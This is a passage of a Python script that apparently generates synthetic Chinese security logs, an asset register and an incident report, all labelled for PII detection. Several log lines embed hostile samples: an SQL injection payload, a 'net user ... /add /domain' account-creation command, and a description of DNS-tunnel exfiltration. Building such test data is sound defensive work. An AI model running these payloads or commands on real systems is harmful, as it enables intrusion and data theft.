                   "；车主 ", NM(cs[1].name), " 车牌 ", PLATE(make_plate()), " 手机 ", cs[1].mobile[:3] + "****" + cs[1].mobile[-4:]]
        fname = R.choice(["客户清单0513.xlsx", "用户信息导出.csv", "欠费名单-4月.xlsx", "实名认证补录.docx", "基站定位样本.txt", "application-prod.yml"])
        d.ln(f"{T} dlp-mgr01 CEF:0|Huachen Security|DLP Endpoint|6.3.2.1187|{sig}|{name}|{sev}|rt={int(epoch(t) * 1000)} src=", IP(e.ip),
             " smac=", MAC(mac_fmt(e.mac, "COLON")), f" shost={e.host} suser={e.account} ", chan,
             f" fname={fname} fsize={R.randrange(2000, 9000000)} fileHash={hexs(64)} act={R.choice(['blocked', 'audit', 'quarantined'])} ",
             f"cs1Label=Policy cs1=PI-{name} cs2Label=OSVersion cs2=10.0.19045.{R.randrange(3000, 4300)} cn1Label=MatchCount cn1={R.randrange(1, 5000)} msg=", msg)
    return d


def f_siem(emps, custs):
    d = Doc("siem_export.csv")
    d.ln(CSVROW(["_time", "sourcetype", "host", "src_ip", "src_mac", "dest_ip", "dest_port", "user", "signature", "severity", "event_id", "_raw"]))
    for t in ts_seq(BASE + dt.timedelta(minutes=2), 40, 5, 220):
        e = R.choice(emps)
        c = R.choice(custs)
        evid = "96" + digits(16)
        T = t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{R.randrange(1000):03d}+08:00"
        k = R.randrange(10)
        if k == 9:
            doc = R.choice([["|passport=", PP(e.passport)], ["|hk_macau_permit=", HKM(e.permit)],
                            ["|passport=", PP(e.passport), "|hk_macau_permit=", HKM(e.permit)]])
            raw = S([f"OA|travel_booking|order=TR{t:%Y%m%d}{digits(6)}|traveller=", NM(e.name)] + doc +
                    [f"|flight={R.choice(['CZ3101', 'MU5101', 'CA1301', 'HX237', 'NX001'])}|mobile=", PH(e.mobile),
                     f"|approver={R.choice(emps).account}|client=", IP(e.ip)])
            row = [T, "oa:travel", "oa01", S([IP(e.ip)]), "-", "-", "443", e.account, "travel_booking", "info", evid, raw]
        elif k == 0:
            raw = S([f"MDM|device_enrolled|owner=", NM(e.name), f"|account={e.account}|model=HUAWEI Mate 60 Pro|os=HarmonyOS 4.0.0.126|imei=",
                     IMEI(e.imei), "|imsi=", IMSI(e.imsi), "|iccid=", ICCID(e.iccid)] + (["|meid=", MEID(e.meid)] if e.meid else []) +
                    ["|wifi_mac=", MAC(mac_fmt(e.wmac, "colon")), "|phone=", PH(fmt_mobile(e.mobile, "+86")), f"|serial={alnum(12, 'ABCDEFGHJKLMNPQRSTUVWXYZ0123456789')}"])
            row = [T, "mdm:events", "emm01", "-", S([MAC(mac_fmt(e.wmac, "colon"))]), "-", "-", e.account, "device_enrolled", "info", evid, raw]
        elif k == 1:
            raw = S(["MDM|geofence_exit|owner=", NM(e.name), "|imei=", IMEI(e.imei), "|loc=", GEO(make_geo(e.city)), "|cell=", CELL(make_cell()),
                     "|fence=", CITIES[e.city]["office"], "|accuracy=15m"])
            row = [T, "mdm:events", "emm01", "-", "-", "-", "-", e.account, "geofence_exit", "low", evid, raw]
        elif k == 2:
            ip = R.choice(MOBILE_PUB + [R.choice(ATTACKERS)])
            raw = S(["{\"userPrincipalName\":\"", EM(e.email), "\",\"appDisplayName\":\"企业微信\",\"ipAddress\":\"", IP(ip),
                     "\",\"status\":{\"errorCode\":", str(R.choice([0, 0, 50126])), "},\"location\":{\"city\":\"Shenzhen\",\"countryOrRegion\":\"CN\"},\"correlationId\":\"", uuid4(), "\"}"])
            row = [T, "idp:signin", "sso01", S([IP(ip)]), "-", "-", "443", S([EM(e.email)]), "user_signin", "medium", evid, raw]
        elif k == 3:
            pw = make_password()
            raw = S([f"EventCode=4688 NewProcessName=C:\\Windows\\System32\\net.exe CommandLine=\"net user svc_sql ", CR(pw), " /add /domain\" ",
                     f"ParentProcessName=C:\\Windows\\System32\\cmd.exe SubjectUserName={e.account} TokenElevationType=%%1937 ProcessId=0x{hexs(4)}"])
            row = [T, "edr:process", e.host, S([IP(e.ip)]), "-", "-", "-", e.account, "suspicious_account_creation", "high", evid, raw]
        elif k == 4:
            raw = S([f"AV|threat_detected|name=Trojan.Win32.Agent.{alnum(4).lower()}|file=C:\\Users\\{e.account}\\Downloads\\发票_0513.exe|sha256={hexs(64)}|",
                     "md5=", hexs(32), "|action=quarantined|engine=5.0.0.1324|sigver=2024.05.13.02"])
            row = [T, "av:events", e.host, S([IP(e.ip)]), S([MAC(mac_fmt(e.mac, "DASH"))]), "-", "-", e.account, "malware_quarantined", "high", evid, raw]
        elif k == 5:
            raw = S([f"{t:%b %d %H:%M:%S} BJ-ACC-SW03 %%01AAA/6/USER_EVENT: 802.1X auth ok UserName:{e.account} UserMac:", MAC(mac_fmt(e.mac, "huawei")),
                     " UserIP:", IP(e.ip), f" Interface:GE0/0/{R.randrange(1, 48)} Vlan:{R.randrange(100, 400)}"])
            row = [T, "nac:dot1x", "BJ-ACC-SW03", S([IP(e.ip)]), S([MAC(mac_fmt(e.mac, "huawei"))]), "-", "-", e.account, "dot1x_success", "info", evid, raw]
        elif k == 6:
            raw = S([f"{t:%b %d %H:%M:%S} dhcp01 dhcpd[2211]: DHCPACK on ", IP(e.ip), " to ", MAC(mac_fmt(e.mac, "colon")), f" ({e.host}) via ",
                     IP(f"{CITIES[e.city]['net']}.0.1")])
            row = [T, "dhcp", "dhcp01", S([IP(e.ip)]), S([MAC(mac_fmt(e.mac, "colon"))]), "-", "67", "-", "dhcp_ack", "info", evid, raw]
        elif k == 7:
            a = R.choice(ATTACKERS)
            raw = S(["CEF:0|Qi An Xin|TianYan|3.0.5.21|WEB-2003|SQL注入攻击|8|src=", IP(a), " dst=", IP("172.16.10.12"),
                     " dpt=443 request=/api/v1/user/query?mobile=", PH(c.mobile), "%27%20or%201%3D1-- cs1Label=ruleId cs1=268501230 cs2Label=OID cs2=1.3.6.1.4.1.2011.6.122.62.1"])
            row = [T, "ids:tianyan", "ty-sensor01", S([IP(a)]), "-", S([IP("172.16.10.12")]), "443", "-", "sql_injection", "high", evid, raw]
        else:
            dbc = f"10.10.8.{R.randrange(10, 60)}"
            raw = S([f"db_audit|user=crm_app|client=", IP(dbc),
                     "|sql=SELECT name,id_no,mobile FROM t_customer WHERE mobile='", PH(c.mobile), "'|rows=1|result_sample=", NM(c.name), ",",
                     RID(c.ric), ",", PH(c.mobile), "|elapsed_ms=", str(R.randrange(1, 900))])
            row = [T, "db:audit", "dbaudit01", S([IP(dbc)]), "-", S([IP("10.10.8.15")]), "3306", "crm_app", "pi_query", "medium", evid, raw]
        d.ln(CSVROW(row))
    return d


def f_assets(emps):
    d = Doc("it_asset_register.csv")
    hdr = ["资产编号", "工号", "姓名", "英文名", "部门", "办公地点", "手机", "座机", "企业邮箱", "设备类型", "品牌型号", "序列号",
           "有线MAC", "无线MAC", "IP地址", "系统版本", "企业手机IMEI", "企业手机MEID", "SIM卡ICCID", "车牌号", "身份证号", "出生日期", "家庭住址", "领用日期", "备注"]
    d.w("\ufeff")
    d.ln(CSVROW(hdr))
    for i, e in enumerate(emps[:22]):
        dev = R.choice([("笔记本", "ThinkPad T14 Gen 3"), ("笔记本", "HUAWEI MateBook 14"), ("台式机", "Lenovo M720t"),
                        ("笔记本", "Dell Latitude 5430"), ("笔记本", "MacBook Pro 14")])
        osv = "macOS 14.4.1 (23E224)" if "Mac" in dev[1] else f"10.0.{R.choice(['19045', '22631'])}.{R.randrange(3000, 3600)}"
        dobs = R.choice(["%Y-%m-%d", "%Y/%m/%d", "%Y%m%d"])
        remark = R.choice(["", "", "VPN账号已开通", "离职交接中", "外包人员 合同至2024-12-31", "手机号变更，原号码 " + e.mobile[:3] + "****" + e.mobile[-4:]])
        has_phone = R.random() < 0.5
        row = [f"HC-IT-{2021 + i % 3}-{R.randrange(1000, 9999)}", e.empno, NM(e.name), NM(e.pinyin), e.dept, CITIES[e.city]["office"],
               PH(fmt_mobile(e.mobile, R.choice(["plain", "plain", "dash", "+86sp"]))), PH(fmt_landline(*e.landline, style=R.choice(["dash", "paren"]))),
               EM(e.email), dev[0], dev[1], alnum(R.choice([8, 10]), "ABCDEFGHJKLMNPQRSTUVWXYZ0123456789"),
               MAC(mac_fmt(e.mac, R.choice(["DASH", "colon", "COLON"]))) if dev[0] != "笔记本" or R.random() < 0.6 else "",
               MAC(mac_fmt(e.wmac, R.choice(["DASH", "colon"]))) if dev[0] == "笔记本" else "",
               IP(e.ip), osv,
               IMEI(e.imei) if has_phone else "", MEID(e.meid) if has_phone and e.meid else "", ICCID(e.iccid) if has_phone else "",
               PLATE(e.plate) if e.plate else "", RID(e.ric), DOB(e.dob.strftime(dobs)),
               ADDR(e.address) if R.random() < 0.7 else "", f"202{R.randrange(1, 4)}-{R.randrange(1, 13):02d}-{R.randrange(1, 29):02d}", remark]
        d.ln(CSVROW(row))
    return d


def f_incident(emps, custs):
    d = Doc("incident_report.md")
    lead, ana, dba = emps[0], emps[1], emps[2]
    a1, a2 = "45.141.84.120", "193.32.162.79"
    v = custs[:10]
    d.ln("# 数据安全事件调查报告")
    d.ln()
    d.ln("- 事件编号：SEC-IR-2024-0513-01")
    d.ln("- 密级：内部机密（含个人信息样本，阅后请按规定销毁）")
    d.ln("- 报告单位：华辰通信股份有限公司 安全运营中心（统一社会信用代码 91110108MA01R8XK3N）")
    d.ln("- 报告人：", NM(lead.name), "（安全运营中心，手机 ", PH(fmt_mobile(lead.mobile, "dash")), "，邮箱 ", EM(lead.email), "）")
    d.ln("- 分析人员：", NM(ana.name), "、", NM(dba.name), "；外部支持：", NM(custs[20].pinyin), "（应急响应服务商）")
    d.ln("- 版本：v1.2（2024-05-14）")
    d.ln()
    d.ln("## 一、事件概述")
    d.ln()
    d.ln("2024年5月13日09:42，WAF 与 Suricata 同时告警：来自 ", IP(a1), " 和 ", IP(a2),
         " 的请求对移动营业厅接口 /api/v1/user/query 发起 SQL 注入，并通过 DNS 隧道（*.t.cdn-sync.top）向境外回传数据。"
         "经排查，入口为 CRM 测试环境 ", IP("10.10.8.20"), " 上未修复的 Apache ActiveMQ 5.15.9（CVE-2023-46604），"
         "攻击者取得该主机权限后，使用运维账号 dba_ro 的明文口令 ", CR(dba.password), " 登录生产库 ", IP("10.10.8.15"),
         "（MySQL 3306），导出 t_customer 表约 12.7 万条记录。")
    d.ln()
    d.ln("受影响主机 MAC 为 ", MAC(mac_fmt(new_mac(), "DASH")), "，所在网段 ", IP("10.10.8.0"),
         "/24；攻击源同时使用了 IPv6 地址 ", IP("2a0b:4140:4c60::2"), "。回传流量经出口 ", IP(EGRESS["BJ"]), " NAT 后送出。")
    d.ln()
    d.ln("## 二、时间线")
    d.ln()
    d.ln("| 时间 | 事件 | 来源 |")
    d.ln("|---|---|---|")
    d.ln("| 05-13 02:17 | ", IP(a1), " 利用 61616 端口漏洞在 ", IP("10.10.8.20"), " 上执行命令 | EDR 事件 ID 961204587731150882 |")
    d.ln("| 05-13 02:31 | 攻击者读取 /opt/crm/conf/application-prod.yml，获取数据库口令及 AccessKeySecret ", CR(alnum(30)), " | 主机取证 |")
    d.ln("| 05-13 03:05 | 从 ", IP("10.10.8.20"), " 连接 ", IP("10.10.8.15"), ":3306，执行 SELECT * FROM t_customer | 数据库审计 |")
    d.ln("| 05-13 03:40–09:30 | DNS TXT 查询约 4.1 万次，标签中携带手机号明文，如 ", PH(v[0].mobile), ".3f9a…t.cdn-sync.top | BIND 查询日志 |")
    d.ln("| 05-13 09:42 | WAF 规则 942100 告警，安全值班 ", NM(ana.name), " 确认并升级 | WAF |")
    d.ln("| 05-13 10:15 | 封禁 ", IP(a1), "/32、", IP(a2), "/32，隔离 ", IP("10.10.8.20"), " | 防火墙 |")
    d.ln()
    d.ln("## 三、泄露数据样本（取证留存，共 10 条）")
    d.ln()
    d.ln("下表为从攻击者回传数据中还原的样本记录，字段与 t_customer 一致：")
    d.ln()
    d.ln("| 序号 | 姓名 | 证件号码 | 出生日期 | 手机号 | 银行卡号 | 住址 |")
    d.ln("|---|---|---|---|---|---|---|")
    for i, c in enumerate(v[:7]):
        idv = c.ric
        if i == 4:
            idv = make_ric15(c.ric[:6], c.dob)
        d.ln(f"| {i + 1} | ", NM(c.name), " | ", RID(idv), " | ", DOB(c.dob.strftime("%Y-%m-%d")), " | ",
             PH(fmt_mobile(c.mobile, R.choice(["plain", "plain", "+86sp", "dash"]))), " | ", CARD(fmt_card(c.card)), " | ", ADDR(c.address), " |")
    d.ln()
    hk = v[7]
    d.ln("另有 3 条境外证件记录：", NM(hk.name), "，护照号 ", PP(hk.passport), "，往来港澳通行证 ", HKM(hk.permit),
         "，出生于", DOB(hk.dob.strftime("%Y年%m月%d日").replace("年0", "年").replace("月0", "月")), "，手机 ", PH(fmt_mobile(hk.mobile, "fw")), "；",
         NM(v[8].name), "（港澳居民居住证 ", RID(make_ric("810000", v[8].dob)), "），联系电话 ", PH(fmt_mobile(v[8].mobile, "0086")), "；",
         NM(v[9].pinyin), "，护照号 ", PP(v[9].passport), "，邮箱 ", EM(v[9].personal_email), "。旧版护照 ",
         PP("G" + digits(8)), " 已过期，仍随附件一并泄露。")
    d.ln()
    d.ln("部分记录还关联了终端与位置数据（来自 t_customer_device 与 t_location_trace）：")
    d.ln()
    for c in custs[10:14]:
        d.ln("- ", NM(c.name), "：IMSI ", IMSI(c.imsi), "，IMEI ", IMEI(c.imei), "，ICCID ", ICCID(c.iccid),
             "，最近一次位置 ", GEO(make_geo(c.city, sep=", ")), "（小区 ", CELL(make_cell()), "），车牌 ", PLATE(make_plate()))
    c = custs[14]
    d.ln("- ", NM(c.name), "：电信 CDMA 终端 MEID ", MEID(make_meid()), "，IMSI ", IMSI(make_imsi("03")), "，ICCID ", ICCID(make_iccid("03")))
    d.ln()
    d.ln("已脱敏的字段（不计入泄露规模统计）示例：张**、138****5678、110101********123X、6222 **** **** 0123。")
    d.ln()
    d.ln("## 四、影响评估")
    d.ln()
    d.ln("共涉及 127,433 名用户，其中含身份证号 126,980 条、银行卡号 8,214 条、位置轨迹 3,502 条。"
         "工单号 WO202405130087、订单号 202405131742560019 仅用于内部追踪。按《电信和互联网用户个人信息保护规定》第十四条，"
         "已于 2024-05-13 18:00 前报告省通信管理局；客户咨询统一由 10086 及 400-810-8888 热线受理。")
    d.ln()
    d.ln("## 五、处置与整改")
    d.ln()
    d.ln("1. 吊销已泄露凭据：数据库账号 dba_ro 口令已重置（原口令 ", CR(dba.password), "），云 AccessKey 已禁用；")
    d.ln("2. 为受影响用户发送提醒短信（发送号码 1069 0000 1234 为短信端口号，不属于用户号码）；")
    d.ln("3. 升级 ActiveMQ 至 5.18.3，补丁包 SHA256 ", hexs(64), "；")
    d.ln("4. 在 DNS 递归服务器 ", IP(DNS_SRV), "、", IP(DNS_SRV2), " 启用 RPZ，阻断 cdn-sync.top；")
    d.ln("5. 联系人：", NM(lead.name), " ", PH(fmt_landline(*lead.landline, style="dash")), "，", NM(dba.name), " ",
         PH(fmt_mobile(dba.mobile, "+86dash")), "。")
    d.ln()
    d.ln("附：攻击者 SSH 指纹 SHA256:", base64.b64encode(bytes(R.randrange(256) for _ in range(32))).decode().rstrip("="),
         "；样本文件 MD5 ", hexs(32), "；关联 OID 1.3.6.1.4.1.2011.5.25.191；客户端版本 10.0.19045.3930。")
    return d

# ----------------------------------------------------------------------------


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--out", default=os.path.dirname(os.path.abspath(__file__)))
    args = ap.parse_args()
    os.makedirs(args.out, exist_ok=True)

    emps = [make_person("emp") for _ in range(60)]
    custs = [make_person("cust") for _ in range(80)]
    ext = custs[40:]

    docs = [f_zeek_conn(emps), f_zeek_http(emps, custs), f_eve(emps, custs), f_squid(emps, custs),
            f_maillog(emps, ext), f_ldif(emps), f_winsec(emps), f_authlog(emps), f_fw(emps),
            f_waf(emps, custs), f_dns(emps, custs), f_dlp(emps, custs), f_siem(emps, custs),
            f_incident(emps, custs), f_assets(emps)]

    rows = []
    for doc in docs:
        with open(os.path.join(args.out, doc.name), "wb") as fh:
            fh.write(bytes(doc.buf))
        for s, e, typ, val in doc.labels:
            rows.append((doc.name, s, e, typ, val))
    rows.sort(key=lambda r: (r[0], r[1]))
    with open(os.path.join(args.out, "labels.jsonl"), "w", encoding="utf-8") as fh:
        for name, s, e, typ, _ in rows:
            fh.write(json.dumps({"file": name, "start": s, "end": e, "type": typ}, ensure_ascii=False) + "\n")

    # verification: re-read every file and check each labelled slice
    cache = {}
    prev = {}
    for name, s, e, typ, val in rows:
        if name not in cache:
            with open(os.path.join(args.out, name), "rb") as fh:
                cache[name] = fh.read()
        got = cache[name][s:e].decode("utf-8")
        assert got == val, (name, s, e, typ, got, val)
        assert got.strip() == got and got, (name, s, got)
        assert prev.get(name, -1) <= s, ("overlap", name, s)
        prev[name] = e
    for name, b in cache.items():
        b.decode("utf-8")
    counts = {}
    for r in rows:
        counts[r[3]] = counts.get(r[3], 0) + 1
    print(f"{len(docs)} files, {len(rows)} labels")
    for k in sorted(counts):
        print(f"  {k:26s} {counts[k]}")


if __name__ == "__main__":
    main()
